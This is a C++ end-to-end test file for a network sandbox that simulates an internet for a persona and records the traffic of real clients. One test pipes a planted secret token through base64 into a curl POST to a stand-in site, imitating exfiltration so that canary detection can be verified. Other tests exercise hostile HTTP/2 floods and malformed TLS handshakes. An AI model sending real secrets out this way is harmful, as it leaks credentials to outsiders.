// Real clients against the simulated internet of a persona: what they get, and what the record
// says.
#include <gmock/gmock.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <map>
#include <set>

#include "base/files.h"
#include "base/json.h"
#include "gyges_process.h"

namespace gyges {
namespace {

using nlohmann::json;
using ::testing::HasSubstr;

constexpr char token[] = "Zx9KqRv7Pd2LmW4tYb8N";

bool installed(const std::string& program) {
  for (const char* directory : {"/usr/bin/", "/bin/"})
    if (::access((directory + program).c_str(), X_OK) == 0) return true;
  return false;
}

#define NEEDS(program) \
  if (!installed(program)) GTEST_SKIP() << program << " is not installed below /usr/bin"

class Internet : public EndToEnd {
 protected:
  void SetUp() override {
    EndToEnd::SetUp();
    json persona =
        read_json(std::filesystem::path(GYGES_SOURCE_DIR) / "policies/personas/bare.json");
    persona["name"] = "test";
    persona["organisation"]["company"] = "Example Works";
    persona["network"] = {{"address", "10.20.30.40"}, {"nameservers", {"10.20.30.2"}}};
    persona["internet"] = json::parse(R"({
      "sites": [
        {"host": ["web.example"], "files": [{"at": "/", "from": "site"}],
         "mx": [{"host": "mx.example"}],
         "pages": [{"path": "/take", "methods": ["POST"], "status": 202, "text": "taken"}]},
        {"host": "mx.example"}],
      "services": [{"protocol": "smtp", "host": "mx.example", "mailboxes": ["*@web.example"]}]})");
    persona["internet"]["canaries"] = {{{"name", "key"}, {"token", token}}};
    std::filesystem::create_directories(path("site"));
    std::ofstream(path("site/hello.txt")) << "hello from far away\n";
    ASSERT_TRUE(write_file_atomically(path("persona.json"), persona.dump()));
    write_policy(path("policy.json"), json::object());
    json policy = read_json(path("policy.json"));
    policy["network"] = json::parse(R"({"mode": "gateway", "rules": [
      {"name": "nothing else", "to": ["blocked.example"], "action": "refuse"},
      {"name": "pit", "to": ["203.0.113.99"], "ports": [22], "action": "sink"},
      {"name": "world", "action": "simulate"}]})");
    ASSERT_TRUE(write_file_atomically(path("policy.json"), policy.dump()));
  }

  Finished inside(const std::string& script) {
    std::filesystem::remove_all(path("run"));
    return gyges({"run", "--recorder", "off", "--policy", path("policy.json").string(), "--persona",
                  path("persona.json").string(), "--out", path("run").string(), "--", "sh", "-c",
                  script});
  }

  // Rows of `gyges flows show --json` with these options.
  std::vector<json> flows(const std::vector<std::string>& options = {}) {
    std::vector<std::string> arguments{"flows", "show", path("run").string(), "--json"};
    arguments.insert(arguments.end(), options.begin(), options.end());
    Finished shown = gyges(arguments);
    EXPECT_EQ(shown.status, 0) << shown.error;
    std::vector<json> rows;
    std::istringstream lines(shown.output);
    for (std::string line; std::getline(lines, line);) rows.push_back(json::parse(line));
    return rows;
  }

  // What a script of clients/ prints about each of its attempts.
  std::map<std::string, std::string> attempts(const std::string& script) {
    auto text = read_file(std::filesystem::path(GYGES_SOURCE_DIR) / "tests/end_to_end/clients" /
                          (script + ".py"));
    EXPECT_TRUE(text);
    Finished run = inside("python3 - <<'SCRIPT'\n" + text.value_or("") + "SCRIPT\n");
    EXPECT_EQ(run.status, 0) << run.error;
    EXPECT_EQ(run.error.find("may be missing"), std::string::npos) << run.error;
    std::map<std::string, std::string> outcomes;
    std::istringstream lines(run.output);
    for (std::string name, outcome; lines >> name >> outcome;) outcomes[name] = outcome;
    return outcomes;
  }

  // The one HTTP exchange of the run.
  json exchange() {
    auto rows = flows({"--protocol", "http"});
    EXPECT_EQ(rows.size(), 1U);
    return rows.size() == 1 ? rows.front() : json();
  }
};

TEST_F(Internet, CurlSpeaksHttp1AndHttp2UnderATrustedCertificate) {
  NEEDS("curl");
  Finished run = inside("curl -sS -m 20 --http1.1 https://web.example/hello.txt");
  ASSERT_EQ(run.status, 0) << run.error;
  EXPECT_EQ(run.output, "hello from far away\n");
  json flow = exchange();
  EXPECT_EQ(flow["verdict"], "simulated");
  EXPECT_EQ(flow["rule"], "world");
  EXPECT_EQ(flow["sni"], "web.example");
  EXPECT_EQ(flow["source"], "10.20.30.40");  // the persona's
  EXPECT_EQ(flow["http"]["version"], "1.1");
  EXPECT_EQ(flow["http"]["status"], 200);
  EXPECT_EQ(flow["http"]["response_body"]["size"], 20);

  run = inside("curl -sS -m 20 --http2 -w '%{http_version}' https://web.example/hello.txt");
  ASSERT_EQ(run.status, 0) << run.error;
  EXPECT_EQ(run.output, "hello from far away\n2");
  EXPECT_EQ(exchange()["http"]["version"], "2");
  EXPECT_EQ(gyges({"verify", path("run").string()}).status, 0);

  // Positive control of the trust store: without it the same certificate is refused.
  run = inside("curl -sS -m 20 --cacert /dev/null --capath /nowhere https://web.example/hello.txt");
  EXPECT_NE(run.status, 0);
}

// Names asked for in TLS: over a port that no world has, and from resolvers in the web.
TEST_F(Internet, NamesOverTlsAndHttpsAreRefusedOrAnsweredAsThePersonaSays) {
  NEEDS("dig");
  json policy = read_json(path("policy.json"));
  const json pit = {
      {"name", "tls pit"}, {"to", {"203.0.113.53"}}, {"ports", {853}}, {"action", "sink"}};
  policy["network"]["rules"].insert(policy["network"]["rules"].begin(), pit);
  ASSERT_TRUE(write_file_atomically(path("policy.json"), policy.dump()));
  Finished run = inside(
      "dig +short web.example | wc -l;"  // control: plain questions are answered
      "dig +tls +time=2 +tries=1 @192.0.2.53 web.example | grep -c refused;"
      "dig +https +time=2 +tries=1 @192.0.2.53 web.example | grep -c refused;"
      "dig +http-plain +time=2 +tries=1 @192.0.2.53 web.example | grep -c refused;"
      "dig +tls +time=2 +tries=1 @203.0.113.53 web.example | grep -c ';; ANSWER';"
      // A site of the persona that serves no names, under a good certificate.
      "dig +https=/take +time=2 +tries=1 @$(dig +short web.example) web.example "
      "| grep -c ';; ANSWER'; true");
  EXPECT_EQ(run.output, "1\n1\n1\n1\n0\n0\n") << run.error;
  auto all = flows();
  const auto verdict_of = [&](const char* address, int port) {
    std::set<std::string> verdicts;
    for (const json& flow : all)
      if (flow["destination"] == address && flow["port"] == port) verdicts.insert(flow["verdict"]);
    return verdicts;
  };
  const std::set<std::string> refused{"refused"};
  EXPECT_EQ(verdict_of("192.0.2.53", 853), refused);
  EXPECT_EQ(verdict_of("192.0.2.53", 443), refused);
  EXPECT_EQ(verdict_of("192.0.2.53", 80), refused);
  EXPECT_EQ(verdict_of("203.0.113.53", 853), std::set<std::string>{"sunk"});
  std::size_t questions = 0;
  for (const json& flow : all)
    if (flow.contains("http") && flow["http"]["url"].get<std::string>().ends_with("/take")) {
      ++questions;
      EXPECT_EQ(flow["verdict"], "simulated");
      EXPECT_EQ(flow["http"]["method"], "POST");
      EXPECT_GT(flow["http"]["request_body"]["size"], 12) << flow;  // the question itself
    }
  EXPECT_EQ(questions, 1U);
}

// A well-known resolver in the web is a name that this world does not have.
TEST_F(Internet, CurlsResolversInTheWebDoNotExistAndAreRecorded) {
  NEEDS("curl");
  const std::string page = " -sS -m 10 https://web.example/hello.txt";
  EXPECT_EQ(inside("curl" + page).output, "hello from far away\n");  // control
  for (const std::string url :
       {"https://dns.google/dns-query", "https://cloudflare-dns.com/dns-query"}) {
    Finished run = inside("curl --doh-url " + url + page);
    EXPECT_NE(run.status, 0);
    EXPECT_EQ(run.output, "");
    const std::string host = url.substr(8, url.rfind('/') - 8);
    std::size_t asked = 0;
    for (const json& flow : flows({"--protocol", "dns"}))
      asked += flow.dump().find(host) != std::string::npos ? 1U : 0U;
    EXPECT_GT(asked, 0U) << host;
  }
  // Of a site of the persona's own the question stands in the record, and no name comes back.
  const std::string other = " -sS -m 10 https://mx.example/";
  EXPECT_EQ(inside("curl" + other).status, 0);  // control
  Finished run = inside("curl --doh-url https://web.example/take" + other);
  EXPECT_NE(run.status, 0);
  EXPECT_EQ(run.output, "");
  std::size_t questions = 0;
  for (const json& flow : flows({"--protocol", "http"})) {
    ++questions;
    EXPECT_EQ(flow["http"]["method"], "POST");
    EXPECT_GT(flow["http"]["request_body"]["size"], 12) << flow;
  }
  EXPECT_GT(questions, 0U);
}

// Flows are written when they end; a person reads them from the beginning.
TEST_F(Internet, TheTableIsInTheOrderOfTime) {
  NEEDS("curl");
  ASSERT_EQ(inside("curl -sS -m 20 https://web.example/hello.txt").status, 0);
  std::vector<std::int64_t> written;
  for (const json& flow : flows()) written.push_back(flow["time_ns"]);
  EXPECT_FALSE(std::is_sorted(written.begin(), written.end()));  // or nothing is shown here
  std::istringstream table(gyges({"flows", "show", path("run").string()}).output);
  std::string line;
  std::getline(table, line);
  std::vector<double> times;
  while (std::getline(table, line)) times.push_back(std::atof(line.c_str()));
  ASSERT_EQ(times.size(), written.size());
  EXPECT_EQ(times.front(), 0);
  EXPECT_TRUE(std::is_sorted(times.begin(), times.end()));
}

TEST_F(Internet, OddClientHellosAreAnsweredAsByServers) {
  NEEDS("python3");
  auto outcomes = attempts("tls_hellos");
  const std::map<std::string, std::string> expected = {{"honest", "hello"},
                                                       {"upper_case", "hello"},
                                                       {"trailing_dot", "hello"},
                                                       {"two_dots", "alert_112"},
                                                       {"two_names", "alert_112"},
                                                       {"same_name_twice", "alert_112"},
                                                       {"other_kind_first", "alert_112"},
                                                       {"address", "alert_112"},
                                                       {"empty_name", "alert_112"},
                                                       {"empty_list", "alert_112"},
                                                       {"nul", "alert_112"},
                                                       {"space", "alert_112"},
                                                       {"too_long", "alert_112"},
                                                       {"length_lies", "alert_112"},
                                                       {"two_extensions", "alert_47"},
                                                       {"none", "hello"},
                                                       {"encrypted", "hello"},
                                                       {"records_of_one_byte", "whole"},
                                                       {"records_of_100_bytes", "whole"},
                                                       {"segments_of_one_byte", "whole"},
                                                       {"empty_record_first", "hello"},
                                                       {"large", "hello"},
                                                       {"too_large", "alert_47"},
                                                       {"half", "closed"},
                                                       {"ssl2", "alert_40"},
                                                       {"plain_http", "closed"},
                                                       {"honest_again", "whole"}};
  EXPECT_EQ(outcomes, expected);
  // Each stands in the record, with why it was refused.
  std::size_t refused = 0;
  for (const json& flow : flows({"--protocol", "tls"}))
    if (flow["verdict"] == "refused") {
      ++refused;
      EXPECT_NE(flow["reason"], "");
    }
  EXPECT_GE(refused, 15U);
}

TEST_F(Internet, HostileHttp2IsCutOffAndOthersAreServed) {
  NEEDS("python3");
  auto outcomes = attempts("http2_floods");
  ASSERT_EQ(outcomes.size(), 50U);
  // Served: honest requests, and those among frames that mean nothing.
  const std::set<std::string> served = {"honest", "honest_again", "priority_flood",
                                        "unknown_frames", "window_dribble"};
  const std::set<std::string> borne = {"connect", "empty_data"};  // they wait for their ends
  // Ended when their answers pile up; on a busy machine the kernel may take all of them.
  const std::set<std::string> answered_each = {"ping_flood", "settings_flood"};
  for (const auto& [name, outcome] : outcomes) {
    EXPECT_EQ(outcome == "status_200", served.contains(name)) << name << " " << outcome;
    if (!answered_each.contains(name)) {
      EXPECT_EQ(outcome == "open", borne.contains(name)) << name << " " << outcome;
    }
    EXPECT_NE(outcome.substr(0, 5), "error") << name << " " << outcome;
  }
  EXPECT_EQ(outcomes["bad_index"], "goaway_9");
  EXPECT_EQ(outcomes["bomb"], "status_400");
  EXPECT_EQ(outcomes["line_in_value"], "reset_1");
  EXPECT_EQ(outcomes["host_differs"], "status_400");
  std::size_t answered = 0;
  for (const json& flow : flows({"--protocol", "http", "--verdict", "simulated"}))
    answered += flow["http"]["status"] == 200 ? 1U : 0U;
  // Of requests that are reset at once some are answered sooner.
  EXPECT_GE(answered, served.size());
}

TEST_F(Internet, AManifestOfTheCurrentDirectoryNeedsNoSlash) {
  const std::filesystem::path before = std::filesystem::current_path();
  std::filesystem::current_path(path(""));
  const Finished run = gyges({"run", "--recorder", "off", "--policy", "policy.json", "--persona",
                              "persona.json", "--out", "run", "--", "true"});
  std::filesystem::current_path(before);
  EXPECT_EQ(run.status, 0) << run.error;
}

TEST_F(Internet, WhatThePolicyRefusesIsRefused) {
  NEEDS("curl");
  Finished run = inside("curl -sS -m 20 http://blocked.example/; curl -sS -m 20 http://192.0.2.7/");
  EXPECT_NE(run.status, 0);
  EXPECT_THAT(flows({"--protocol", "http"}), ::testing::IsEmpty());
  auto refused = flows({"--protocol", "tcp", "--verdict", "refused"});
  ASSERT_EQ(refused.size(), 1U);
  EXPECT_EQ(refused[0]["destination"], "192.0.2.7");
}

TEST_F(Internet, ACanaryThatLeavesIsFound) {
  NEEDS("curl");
  Finished run = inside(std::string("printf %s ") + token +
                        " | base64 | curl -sS -m 20 -d @- https://web.example/take");
  ASSERT_EQ(run.status, 0) << run.error;
  EXPECT_EQ(run.output, "taken");
  auto hits = flows({"--canaries"});
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_EQ(hits[0]["canaries"][0]["canary"], "key");
  EXPECT_EQ(hits[0]["canaries"][0]["encoding"], "base64");
  // Nothing was planted there: no hit.
  run = inside("echo nothing | base64 | curl -sS -m 20 -d @- https://web.example/take");
  ASSERT_EQ(run.status, 0) << run.error;
  EXPECT_TRUE(flows({"--canaries"}).empty());
}

TEST_F(Internet, TheExportsHoldTheExchange) {
  NEEDS("curl");
  ASSERT_EQ(inside("curl -sS -m 20 http://web.example/hello.txt").status, 0);
  std::string run = path("run").string();
  Finished har = gyges({"flows", "export", run, "--format", "har"});
  ASSERT_EQ(har.status, 0) << har.error;
  json entries = json::parse(har.output)["log"]["entries"];
  ASSERT_EQ(entries.size(), 1U);
  EXPECT_EQ(entries[0]["request"]["url"], "http://web.example/hello.txt");
  EXPECT_EQ(entries[0]["response"]["content"]["text"], "hello from far away\n");
  Finished capture = gyges({"flows", "export", run, "--format", "pcapng"});
  ASSERT_EQ(capture.status, 0) << capture.error;
  EXPECT_EQ(capture.output.substr(0, 4), "\x0a\x0d\x0d\x0a");
  EXPECT_THAT(gyges({"flows", "show", run}).output,
              HasSubstr("GET http://web.example/hello.txt 200"));
}

TEST_F(Internet, Wget) {
  NEEDS("wget");
  Finished run = inside("wget -qO- -T 20 -t 1 https://web.example/hello.txt");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_EQ(run.output, "hello from far away\n");
}

TEST_F(Internet, GitClonesFromFiles) {
  NEEDS("git");
  std::string site = path("site").string();
  std::string make = "cd " + site + " && export GIT_CONFIG_NOSYSTEM=1 HOME=" + site +
                     " && git init -q w && cd w && echo one > README && git add README && "
                     "git -c user.name=a -c user.email=a@web.example commit -qm first && cd .. && "
                     "git clone -q --bare w tools.git && cd tools.git && git update-server-info && "
                     "rm -rf ../w";
  ASSERT_EQ(std::system(make.c_str()), 0);
  Finished run =
      inside("cd /tmp && git clone -q https://web.example/tools.git && cat tools/README");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_EQ(run.output, "one\n");
}

TEST_F(Internet, PythonUrllib) {
  NEEDS("python3");
  Finished run = inside(
      "python3 -c 'import urllib.request as u; "
      "print(u.urlopen(\"https://web.example/hello.txt\", timeout=20).read().decode(), end=\"\")'");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_EQ(run.output, "hello from far away\n");
}

TEST_F(Internet, NodeFetch) {
  NEEDS("node");
  Finished run = inside(
      "node --use-openssl-ca -e "
      "'fetch(\"https://web.example/hello.txt\").then(r => r.text()).then(t => console.log(t))'");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_THAT(run.output, HasSubstr("hello from far away"));
}

TEST_F(Internet, OpensslVerifiesTheChain) {
  NEEDS("openssl");
  Finished run = inside(
      "openssl s_client -connect web.example:443 -servername web.example -verify_return_error "
      "-verify_hostname web.example </dev/null");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_THAT(run.output, HasSubstr("Example Works Root CA"));
  EXPECT_THAT(run.output, HasSubstr("Verify return code: 0 (ok)"));
}

TEST_F(Internet, DigAsksAnyResolver) {
  NEEDS("dig");
  Finished run = inside(
      "dig +short +time=10 @192.0.2.53 web.example MX; dig +tcp +short +time=10 web.example A; "
      "dig +time=10 nowhere.example A | grep -o 'status: [A-Z]*'");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_THAT(run.output, HasSubstr("10 mx.example."));
  EXPECT_THAT(run.output, ::testing::ContainsRegex("(198\\.51\\.100|203\\.0\\.113)\\."));
  EXPECT_THAT(run.output, HasSubstr("status: NXDOMAIN"));
  EXPECT_EQ(flows({"--protocol", "dns"}).size(), 3U);
}

// The export holds the very bytes that a client sent and got, by UDP and by TCP, and Wireshark
// reads them, where there is one.
TEST_F(Internet, TheExportHoldsDnsAsItWasOnTheWire) {
  NEEDS("python3");
  Finished run = inside(R"(python3 -c '
import socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x100, 1, 0, 0, 0) + b"\3wEb\7example\0" + bytes([0, 1, 0, 1])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(20)
u.sendto(q, ("192.0.2.53", 53))
print(q.hex(), u.recv(4096).hex())
t = socket.create_connection(("192.0.2.53", 53), 20)
f = struct.pack(">H", len(q)) + q
t.sendall(f)
print(f.hex(), t.recv(4096).hex())
')");
  ASSERT_EQ(run.status, 0) << run.error;
  Finished capture = gyges({"flows", "export", path("run").string(), "--format", "pcapng", "-o",
                            path("dns.pcapng").string()});
  ASSERT_EQ(capture.status, 0) << capture.error;
  const std::string bytes = read_file(path("dns.pcapng")).value();
  std::istringstream printed(run.output);
  int messages = 0;
  for (std::string hex; printed >> hex; ++messages) {
    std::string message;
    for (std::size_t i = 0; i + 1 < hex.size(); i += 2)
      message += static_cast<char>(std::stoi(hex.substr(i, 2), nullptr, 16));
    EXPECT_NE(bytes.find(message), std::string::npos) << hex;
  }
  EXPECT_EQ(messages, 4);
  NEEDS("tshark");
  const std::string shark = "tshark -r " + path("dns.pcapng").string() +
                            " -Y dns -T fields -e ip.proto -e dns.qry.name -e dns.flags.response"
                            " -e _ws.malformed 2>/dev/null >" +
                            path("shark").string();
  ASSERT_EQ(std::system(shark.c_str()), 0);
  EXPECT_EQ(read_file(path("shark")).value(),
            "17\twEb.example\t0\t\n17\twEb.example\t1\t\n"
            "6\twEb.example\t0\t\n6\twEb.example\t1\t\n");
}

TEST_F(Internet, MailIsTakenAndRecorded) {
  NEEDS("python3");
  Finished run = inside(
      "python3 -c 'import smtplib; s = smtplib.SMTP(\"mx.example\", timeout=20); "
      "s.sendmail(\"a@b.example\", [\"c@web.example\"], \"Subject: x\\r\\n\\r\\nbody\")'");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_EQ(flows({"--protocol", "smtp"}).size(), 1U);
}

TEST_F(Internet, SshIsRefusedOrSunk) {
  NEEDS("ssh");
  const std::string ssh =
      "ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=";
  Finished run = inside(ssh + "20 a@192.0.2.7");
  EXPECT_EQ(run.status, 255);
  EXPECT_THAT(run.error, HasSubstr("Connection refused"));
  // Taken and never answered: the client gives up by itself.
  run = inside(ssh + "2 a@203.0.113.99");
  EXPECT_EQ(run.status, 255);
  EXPECT_THAT(run.error, HasSubstr("timed out"));
  auto sunk = flows({"--verdict", "sunk"});
  ASSERT_EQ(sunk.size(), 1U);
  EXPECT_EQ(sunk[0]["rule"], "pit");
  EXPECT_GT(sunk[0]["sent_bytes"], 20);  // its version
}

TEST_F(Internet, PingIsAnswered) {
  NEEDS("ping");
  Finished run = inside("ping -c 1 -W 20 web.example");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_THAT(run.output, HasSubstr("1 received"));
}

TEST_F(Internet, AptReadsAnIndexOfFiles) {
  NEEDS("apt-get");
  std::filesystem::create_directories(path("site/debian"));
  std::ofstream(path("site/debian/Packages"))
      << "Package: tool\nVersion: 1.0\nArchitecture: all\nMaintainer: a <a@web.example>\n"
         "Filename: ./tool.deb\nSize: 5\nSHA256: "
      << std::string(64, '0') << "\nDescription: a tool\n\n";
  std::ofstream(path("site/debian/Release"))
      << "Origin: Example\nDate: Sat, 01 Jan 2022 00:00:00 UTC\n";
  Finished run = inside(
      "mkdir -p /tmp/a/lists/partial /tmp/a/cache/archives/partial && cd /tmp/a && : > status && "
      "echo 'deb [trusted=yes] https://web.example/debian ./' > list && "
      "o='-o Dir::Etc=/tmp/a -o Dir::Etc::sourcelist=/tmp/a/list -o Dir::Etc::sourceparts=- "
      "-o Dir::State=/tmp/a -o Dir::State::status=/tmp/a/status -o Dir::Cache=/tmp/a/cache "
      "-o APT::Sandbox::User= -o Acquire::Languages=none' && "
      "apt-get $o update && apt-cache $o policy tool");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_THAT(run.output, HasSubstr("Candidate: 1.0")) << run.error;
}

TEST_F(Internet, NpmReadsARegistryOfFiles) {
  NEEDS("npm");
  std::filesystem::create_directories(path("site/npm"));
  std::ofstream(path("site/npm/tool"))
      << R"({"name": "tool", "dist-tags": {"latest": "1.2.3"}, "versions": {"1.2.3":
          {"name": "tool", "version": "1.2.3", "dist": {"tarball":
           "https://web.example/npm/tool/-/tool-1.2.3.tgz", "shasum":
           "0000000000000000000000000000000000000000"}}}})";
  Finished run = inside(
      "cd /tmp && HOME=/tmp NODE_OPTIONS=--use-openssl-ca npm view tool version "
      "--registry https://web.example/npm/ --no-update-notifier");
  EXPECT_EQ(run.status, 0) << run.error;
  EXPECT_THAT(run.output, HasSubstr("1.2.3"));
}

}  // namespace
}  // namespace gyges
